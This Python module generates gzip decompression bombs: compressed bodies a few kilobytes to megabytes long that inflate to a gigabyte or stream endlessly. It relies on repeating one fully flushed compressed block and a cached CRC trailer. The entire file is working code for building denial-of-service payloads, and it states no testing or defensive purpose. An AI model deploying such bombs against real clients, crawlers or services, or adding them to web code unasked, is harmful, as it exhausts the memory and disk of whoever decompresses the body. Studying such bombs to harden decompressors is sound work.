"""Gzip bombs: small compressed bodies that inflate to a gigabyte (or without end), made without holding either.

A full flush resets the compressor, so after one, the same block of input compresses to
the same bytes every time: the body is the gzip header, that compressed block repeated,
and the trailer (whose CRC is computed once per size and cached).
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator

__all__ = ["GIB", "gzip_bomb"]

GIB = 1 << 30
_BLOCK = 1 << 20
_BLOCKS_PER_PIECE = 64  # about 66 KB of compressed body per piece sent


@functools.cache
def _blocks(unit: bytes) -> tuple[bytes, bytes, bytes]:
    """(plain block, gzip header, compressed block) for ``unit`` repeated to about 1 MiB."""
    block = unit * max(1, _BLOCK // len(unit))
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first.endswith(again), "a full flush should make blocks compress alike"
    return block, first[: len(first) - len(again)], again


@functools.cache
def _trailer(unit: bytes, count: int) -> bytes:
    block = _blocks(unit)[0]
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return b"\x03\x00" + struct.pack("<II", crc, (len(block) * count) & 0xFFFFFFFF)  # empty final block, CRC, size


def gzip_bomb(unit: bytes, size: int | None = GIB) -> Iterator[bytes]:
    """A gzip body inflating to ``unit`` repeated to at least ``size`` bytes (``None``: never ending)."""
    block, header, compressed = _blocks(unit)
    yield header
    count = 0
    while size is None or count * len(block) < size:
        blocks = (
            _BLOCKS_PER_PIECE if size is None else min(_BLOCKS_PER_PIECE, -(-(size - count * len(block)) // len(block)))
        )
        yield compressed * blocks
        count += blocks
    yield _trailer(unit, count)
